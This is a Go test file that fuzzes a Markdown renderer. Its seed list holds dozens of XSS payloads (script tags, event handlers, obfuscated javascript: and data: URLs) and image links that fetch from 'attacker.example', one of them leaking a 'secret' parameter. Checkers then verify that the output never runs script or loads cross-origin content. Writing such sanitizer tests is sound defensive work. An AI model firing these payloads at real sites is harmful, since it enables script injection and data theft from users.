package views

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// markdownSeeds are classic XSS vectors and Markdown edge cases; more live in
// testdata/fuzz/FuzzMarkdown (the go test fuzz v1 format), with whatever the
// fuzzer ever found.
var markdownSeeds = []string{
	"",
	"Hello **world**",
	"<script>alert(1)</script>",
	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	"<img src=x onerror=alert(1)>",
	"![x](x \"a\" onerror=\"alert(1)\")",
	"[x](javascript:alert(1))",
	"[x](JaVaScRiPt:alert(1))",
	"[x](  javascript:alert(1))",
	"[x](java\tscript:alert(1))",
	"[x](&#106;avascript:alert(1))",
	"[x](&#x6A;&#x61;vascript&#58;alert(1))",
	"[x](javascript&colon;alert(1))",
	"[x](vbscript:msgbox(1))",
	"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
	"![x](data:image/svg+xml,<svg onload=alert(1)>)",
	"<javascript:alert(1)>",
	"<https://example.com/?a=<script>>",
	"www.example.com/<script>alert(1)</script>",
	"[x]: javascript:alert(1)\n\n[link][x]",
	"<a href=\"javascript:alert(1)\">x</a>",
	"<iframe src=\"https://evil.example\"></iframe>",
	"<object data=x></object><embed src=x>",
	"<style>body{display:none}</style>",
	"<svg><script>alert(1)</script></svg>",
	"<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
	"<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
	"```\n<script>alert(1)</script>\n```",
	"````\n```\n<script>\n```\n````",
	"~~~html\n<img onerror=alert(1) src=x>\n~~~",
	"`<script>`",
	"> <script>alert(1)</script>",
	"- [ ] <img src=x onerror=alert(1)>",
	"| a | b |\n|---|---|\n| <script>x</script> | [y](javascript:y) |",
	"<div onmouseover=\"alert(1)\">hover</div>",
	"<a href=\"&#0000106&#0000097vascript:alert(1)\">x</a>",
	"<!-- <script>alert(1)</script> -->",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<<script>script>alert(1)<</script>/script>",
	"[![x](javascript:a)](javascript:b)",
	"**[x](javascript:alert(1))**",
	"\\<script\\>alert(1)\\</script\\>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"<details open ontoggle=alert(1)>",
	"<base href=\"javascript:/\">",
	"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
	// Fetches from another origin (the Markdown origin policy).
	"![x](http://attacker.example/leak?d=secret)",
	"![x](HTTPS://attacker.example/a.png \"t\")",
	"![x](//attacker.example/a.png)",
	"![x](\\\\attacker.example/a.png)",
	"![x](/\\attacker.example/a.png)",
	"![x](< //attacker.example/a.png>)",
	"![x](</\t/attacker.example/a.png>)",
	"![x](data:image/png;base64,iVBORw0KGgo=)",
	"![x](DATA:image/gif;base64,R0lGOD)",
	"![x][r]\n\n[r]: http://attacker.example/r.png",
	"![x][]\n\n[x]: //attacker.example/r.png",
	"[![x](http://attacker.example/i.png)](http://t.example)",
	"![![inner](http://a.example/i.png)](data:,x)",
	"![a [b](http://a.example/)](javascript:x)",
	"<img src=\"http://attacker.example/i.png\">",
	"<img srcset=\"http://attacker.example/i.png 2x\">",
	"<video poster=//attacker.example/p.png></video>",
	"<table background=http://attacker.example/b.png>",
	"<p style=\"background:url(http://attacker.example/b.png)\">x</p>",
	"<http://attacker.example/autolink>",
	"www.attacker.example/x.png",
	"![x](/static/ok.png) ![y](img/ok.png)",
}

// markdownForbidden are the elements that must never come out.
var markdownForbidden = map[atom.Atom]bool{
	atom.Script: true, atom.Iframe: true, atom.Frame: true, atom.Frameset: true, atom.Object: true,
	atom.Embed: true, atom.Applet: true, atom.Style: true, atom.Link: true, atom.Meta: true,
	atom.Base: true, atom.Form: true, atom.Svg: true, atom.Math: true, atom.Template: true,
}

// markdownURLAttrs are the attributes a browser follows or loads.
var markdownURLAttrs = map[string]bool{
	"href": true, "src": true, "action": true, "formaction": true, "xlink:href": true, "poster": true,
	"background": true, "data": true, "cite": true, "srcset": true, "lowsrc": true, "dynsrc": true,
}

// markdownUnsafe parses out as a browser parses a fragment inserted into a
// div, and says what in it could run script ("" when nothing).
func markdownUnsafe(out string) string {
	ctx := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
	nodes, err := html.ParseFragment(strings.NewReader(out), ctx)
	if err != nil {
		return "unparsable output: " + err.Error()
	}
	var bad string
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if bad != "" {
			return
		}
		if n.Type == html.ElementNode {
			if markdownForbidden[n.DataAtom] || markdownForbidden[atom.Lookup([]byte(strings.ToLower(n.Data)))] {
				bad = "element <" + n.Data + ">"
				return
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				if a.Namespace != "" {
					key = strings.ToLower(a.Namespace) + ":" + key
				}
				if strings.HasPrefix(strings.TrimPrefix(key, "xlink:"), "on") {
					bad = "event handler attribute " + key + "=" + a.Val
					return
				}
				if (markdownURLAttrs[key] || markdownURLAttrs[strings.TrimPrefix(key, "xlink:")]) && markdownScriptURL(a.Val) {
					bad = "script URL " + key + "=" + a.Val
					return
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	return bad
}

// markdownScriptURL says whether a URL has a scheme that runs or smuggles
// script. The parser has decoded its entities, once, as a browser does (a
// second decoding would see schemes no browser sees). Browsers drop ASCII
// whitespace and control characters inside a scheme and ignore case.
func markdownScriptURL(v string) bool {
	var b strings.Builder
	for _, r := range v {
		if r > ' ' && r != 0x7f {
			b.WriteRune(r)
		}
	}
	u := strings.ToLower(b.String())
	for _, scheme := range []string{"javascript:", "vbscript:", "data:", "livescript:"} {
		if strings.HasPrefix(u, scheme) {
			return true
		}
	}
	return false
}

// markdownLoadAttrs are the attributes whose URL a browser loads without a
// click (href only on elements other than <a>, which are forbidden anyway).
var markdownLoadAttrs = map[string]bool{
	"src": true, "srcset": true, "poster": true, "background": true, "data": true, "lowsrc": true,
	"dynsrc": true, "xlink:href": true, "imagesrcset": true, "ping": true,
}

// markdownRemote says what in the output would make the browser fetch from
// another origin ("" when nothing): a loaded URL that has a scheme or starts
// with two slashes (after what browsers strip and turn: ASCII whitespace and
// control characters, backslashes), a srcset or style attribute at all, or a
// link without rel="noopener nofollow noreferrer".
func markdownRemote(out string) string {
	ctx := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
	nodes, err := html.ParseFragment(strings.NewReader(out), ctx)
	if err != nil {
		return "unparsable output: " + err.Error()
	}
	var bad string
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if bad != "" {
			return
		}
		if n.Type == html.ElementNode {
			var href, rel string
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				if a.Namespace != "" {
					key = strings.ToLower(a.Namespace) + ":" + key
				}
				switch {
				case key == "style" || key == "srcset" || key == "imagesrcset":
					bad = "attribute " + key + "=" + a.Val
				case markdownLoadAttrs[key] || key == "href" && n.DataAtom != atom.A:
					if markdownOtherOrigin(a.Val) {
						bad = "a fetch from another origin: <" + n.Data + " " + key + "=" + a.Val + ">"
					}
				case key == "href":
					href = a.Val
				case key == "rel":
					rel = " " + a.Val + " "
				}
			}
			if bad == "" && n.DataAtom == atom.A && href != "" {
				for _, want := range []string{" noopener ", " nofollow ", " noreferrer "} {
					if !strings.Contains(rel, want) {
						bad = "a link without" + want + "in rel: " + href + " rel=" + rel
					}
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	return bad
}

// markdownOtherOrigin says whether a URL, as a browser reads it, may load
// from another origin: it has a scheme (data: included) or starts with two
// slashes. Browsers drop tabs and newlines anywhere, trim control characters
// and spaces at the ends, and read a backslash as a slash.
func markdownOtherOrigin(v string) bool {
	v = strings.Map(func(r rune) rune {
		switch r {
		case '\t', '\n', '\r':
			return -1
		case '\\':
			return '/'
		}
		return r
	}, v)
	v = strings.ToLower(strings.TrimFunc(v, func(r rune) bool { return r <= ' ' }))
	if strings.HasPrefix(v, "//") {
		return true
	}
	for i, r := range v {
		switch {
		case r == ':' && i > 0:
			return true
		case r >= 'a' && r <= 'z', i > 0 && (r >= '0' && r <= '9' || r == '+' || r == '-' || r == '.'):
		default:
			return false
		}
	}
	return false
}

// FuzzMarkdown: rendering any Markdown never panics, never yields markup
// that could run script, and never makes the browser fetch from another
// origin.
func FuzzMarkdown(f *testing.F) {
	for _, s := range markdownSeeds {
		f.Add(s)
	}
	md := NewMarkdown()
	f.Fuzz(func(t *testing.T, src string) {
		out := md.HTML(src)
		if why := markdownUnsafe(out); why != "" {
			t.Fatalf("unsafe output (%s)\nsource: %q\noutput: %q", why, src, out)
		}
		if why := markdownRemote(out); why != "" {
			t.Fatalf("output reaches out (%s)\nsource: %q\noutput: %q", why, src, out)
		}
	})
}

// TestMarkdownRemoteCatches proves the origin checker fails on what it must
// catch, so that FuzzMarkdown cannot pass by checking nothing.
func TestMarkdownRemoteCatches(t *testing.T) {
	for _, out := range []string{
		`<img src="http://a.example/x.png">`,
		`<img src="HTTPS://a.example/x.png">`,
		`<img src="//a.example/x.png">`,
		`<img src=" \\a.example/x.png">`,
		`<img src="/\a.example/x.png">`,
		`<img src="/&#9;/a.example/x.png">`,
		`<img src="data:image/png;base64,AAAA">`,
		`<img srcset="/a.png 1x">`,
		`<video poster="//a.example/p.png"></video>`,
		`<table background="http://a.example/b.png"></table>`,
		`<p style="color:red">x</p>`,
		`<a href="http://a.example/" rel="nofollow">x</a>`,
		`<a href="/chat/1">x</a>`,
	} {
		if markdownRemote(out) == "" {
			t.Errorf("the checker passes %q", out)
		}
	}
	for _, out := range []string{
		`<p><img src="/static/a.png" alt="x"> <img src="img/a.png"> <img src="/%5Ca.example/x.png"></p>`,
		`<a href="http://a.example/" rel="noopener nofollow noreferrer" target="_blank">http://a.example/</a>`,
		`<a rel="noopener">no href</a>`,
	} {
		if why := markdownRemote(out); why != "" {
			t.Errorf("the checker refuses safe %q: %s", out, why)
		}
	}
}

// TestMarkdownUnsafeCatches proves the checker fails on what it must catch,
// so that FuzzMarkdown cannot pass by checking nothing.
func TestMarkdownUnsafeCatches(t *testing.T) {
	for _, out := range []string{
		`<script>alert(1)</script>`,
		`<p><img src="x" onerror="alert(1)"></p>`,
		`<a href=" JaVa&#x09;Script&colon;alert(1)">x</a>`,
		`<a href="&#106;avascript:alert(1)">x</a>`,
		`<img src="data:image/svg+xml,x">`,
		`<iframe></iframe>`, `<object></object>`, `<embed>`, `<style>p{}</style>`,
		`<button formaction="vbscript:x">`,
		`<svg><a xlink:href="javascript:x">y</a></svg>`,
	} {
		if markdownUnsafe(out) == "" {
			t.Errorf("the checker passes %q", out)
		}
	}
	for _, out := range []string{
		`<p>Hello <a href="https://example.com" rel="nofollow">x</a> <code>&lt;script&gt;</code></p>`,
		`<pre><code>javascript:alert(1)</code></pre>`,
		`<a href="/chat/1">javascript: is a scheme</a>`,
	} {
		if why := markdownUnsafe(out); why != "" {
			t.Errorf("the checker refuses safe %q: %s", out, why)
		}
	}
}
